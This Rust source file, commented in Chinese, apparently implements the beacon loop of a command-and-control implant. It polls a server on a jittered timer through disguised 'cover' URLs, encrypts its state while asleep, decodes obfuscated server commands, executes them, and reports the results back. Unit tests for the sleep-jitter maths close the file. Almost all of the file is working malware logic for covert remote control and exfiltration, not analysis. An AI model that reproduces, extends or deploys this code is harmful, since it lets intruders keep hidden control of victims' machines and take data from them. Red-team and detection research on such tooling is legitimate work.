// Beacon 循环
//
// 带抖动的轮询-执行-上报周期。每轮迭代严格按序：
// 唤醒解密 → 快照 timer/jitter → 计算睡眠 → 构造掩护 URL → GET →
// 分发执行 → 批量上报 → 重新加密 → 睡眠。
//
// 响应处理在独立任务中进行，但在本轮睡眠结束前一定被 join，
// switch_session 标志经由 JoinHandle 返回，控制器只在睡眠后观察它。

use log::{debug, error, info, warn};
use rand::Rng;
use std::sync::Arc;
use std::time::Duration;

use crate::config::SharedState;
use crate::dispatch::{self, CommandReport, Dispatcher};
use crate::error::Result;
use crate::http::{HttpClient, RETRY_ATTEMPTS};
use crate::obfuscation::ObfuscationMap;
use crate::urlgen;

/// 一次 beacon 调用的结束原因
#[derive(Debug, PartialEq, Eq)]
pub enum BeaconOutcome {
    /// 服务端要求切换到 session 模式
    SwitchSession,
    /// 迭代次数耗尽，交还控制权给控制器重新评估模式
    Completed,
}

/// 计算本轮睡眠时长：`max(0, timer ± U(0, jitter))`，正负号等概率
pub fn calculate_sleep_time(timer: f64, jitter: f64) -> Duration {
    let timer = timer.max(0.0);
    let jitter = jitter.max(0.0);

    let mut rng = rand::thread_rng();
    let jitter_effect = if jitter > 0.0 {
        rng.gen_range(0.0..=jitter)
    } else {
        0.0
    };

    let adjusted = if rng.gen::<bool>() {
        timer + jitter_effect
    } else {
        timer - jitter_effect
    };

    Duration::from_secs_f64(adjusted.max(0.0))
}

/// 运行 beacon 循环，最多 `max_retries` 轮后交还控制权
pub async fn run(
    state: Arc<SharedState>,
    dispatcher: Arc<Dispatcher>,
    http: Arc<HttpClient>,
    obfuscation: Arc<ObfuscationMap>,
) -> Result<BeaconOutcome> {
    info!("Beacon loop initiated");
    let max_iterations = state.max_retries().await.max(1);

    for iteration in 0..max_iterations {
        debug!("Beacon iteration {}/{}", iteration + 1, max_iterations);

        // 1. 唤醒：如处于加密空闲态则解密
        state.ensure_decrypted().await?;

        // 2-3. 快照计时参数并计算本轮睡眠
        let (timer, jitter) = state.timing().await;
        let sleep_duration = calculate_sleep_time(timer, jitter);

        // 4. 构造掩护 URL
        let base_url = state.url().await?;
        let client_id = state.id().await?;
        let beacon_check_url = urlgen::beacon_url(&base_url, &client_id);
        debug!("Beaconing to: {}", beacon_check_url);

        // 5. 轮询；传输错误时按线性退避重试，耗尽则向控制器返回致命错误
        let mut switch_session = false;
        match http.get(&beacon_check_url).await {
            Err(e) => {
                error!("Beacon GET request failed: {}", e);
                http.retry_get(&beacon_check_url, RETRY_ATTEMPTS, sleep_duration)
                    .await?;
                info!("Beacon retry successful");
            }
            Ok((200, body)) => {
                // 6-7. 响应处理任务与下一窗口并发启动，但必须在睡眠结束前 join，
                //      标志经 JoinHandle 传回，不走共享可变状态
                let handler_state = Arc::clone(&state);
                let handler_dispatcher = Arc::clone(&dispatcher);
                let handler_http = Arc::clone(&http);
                let handler_obfuscation = Arc::clone(&obfuscation);
                let handle = tokio::spawn(async move {
                    handle_response(
                        &body,
                        handler_state,
                        handler_dispatcher,
                        handler_http,
                        handler_obfuscation,
                    )
                    .await
                });

                switch_session = match handle.await {
                    Ok(flag) => flag,
                    Err(e) => {
                        error!("Beacon response handler panicked: {}", e);
                        false
                    }
                };
            }
            Ok((code, _)) => {
                warn!("Beacon received non-200 status: {}. No action taken.", code);
            }
        }

        // 8. 睡眠前重新加密状态
        if let Err(e) = state.encrypt_state().await {
            // 加密失败降级为明文空闲，仅告警（见设计记录）
            warn!("Failed to encrypt state before sleep: {}", e);
        }
        debug!("Beacon sleeping for {:?}", sleep_duration);
        tokio::time::sleep(sleep_duration).await;

        // session 切换只在睡眠完成后对控制器可见
        if switch_session {
            info!("Switching to session mode due to server request");
            return Ok(BeaconOutcome::SwitchSession);
        }
    }

    info!("Beacon loop completed {} iterations, returning control", max_iterations);
    Ok(BeaconOutcome::Completed)
}

/// 处理一次 200 响应：解析 → 顺序执行 → 上报
///
/// 返回 switch_session 标志。解析失败只告警，不中断 beacon。
async fn handle_response(
    body: &str,
    state: Arc<SharedState>,
    dispatcher: Arc<Dispatcher>,
    http: Arc<HttpClient>,
    obfuscation: Arc<ObfuscationMap>,
) -> bool {
    let commands = match dispatch::parse_server_response(body, &obfuscation) {
        Ok(commands) => commands,
        Err(e) => {
            error!("Error parsing server response: {}", e);
            return false;
        }
    };

    if commands.is_empty() {
        debug!("No commands received in response");
        return false;
    }

    let (reports, switch_session) = dispatcher.process_batch(&commands).await;

    // 上报失败只记日志，不中断循环
    if let Err(e) = post_reports(&state, &http, &reports).await {
        error!("Failed to post reports to server: {}", e);
    }
    switch_session
}

/// 批量上报命令结果；空批次不发请求
async fn post_reports(
    state: &SharedState,
    http: &HttpClient,
    reports: &[CommandReport],
) -> Result<()> {
    if reports.is_empty() {
        return Ok(());
    }
    info!("Posting {} command report(s) to server", reports.len());

    let payload = serde_json::json!({ "reports": reports });
    let body = serde_json::to_string(&payload)?;

    let base_url = state.url().await?;
    let report_url = urlgen::report_url(&base_url);
    http.post(&report_url, body, false).await?;

    debug!("Successfully posted command reports");
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::AgentConfig;

    #[tokio::test]
    async fn test_empty_report_batch_skips_post() {
        // 空批次不应发起任何请求（URL 可达与否都无所谓）
        let state = SharedState::new(AgentConfig::default());
        let http = HttpClient::new().unwrap();
        post_reports(&state, &http, &[]).await.unwrap();
    }

    #[test]
    fn test_sleep_time_within_jitter_bounds() {
        for _ in 0..1000 {
            let sleep = calculate_sleep_time(10.0, 3.0).as_secs_f64();
            assert!((7.0..=13.0).contains(&sleep), "out of bounds: {}", sleep);
        }
    }

    #[test]
    fn test_sleep_time_zero_jitter_is_exact() {
        for _ in 0..100 {
            assert_eq!(calculate_sleep_time(10.0, 0.0), Duration::from_secs_f64(10.0));
        }
    }

    #[test]
    fn test_sleep_time_clamped_to_zero() {
        // timer - jitter < 0 时钳到 0，绝不为负
        for _ in 0..1000 {
            let sleep = calculate_sleep_time(1.0, 5.0);
            assert!(sleep.as_secs_f64() >= 0.0);
            assert!(sleep.as_secs_f64() <= 6.0);
        }
    }

    #[test]
    fn test_sleep_time_negative_inputs() {
        assert_eq!(calculate_sleep_time(-5.0, 0.0), Duration::from_secs(0));
        let sleep = calculate_sleep_time(10.0, -3.0);
        assert_eq!(sleep, Duration::from_secs_f64(10.0));
    }

    #[test]
    fn test_sleep_time_sign_varies() {
        // 正负偏移两个方向都应出现
        let mut above = false;
        let mut below = false;
        for _ in 0..1000 {
            let sleep = calculate_sleep_time(10.0, 4.0).as_secs_f64();
            if sleep > 10.0 {
                above = true;
            }
            if sleep < 10.0 {
                below = true;
            }
        }
        assert!(above && below);
    }
}
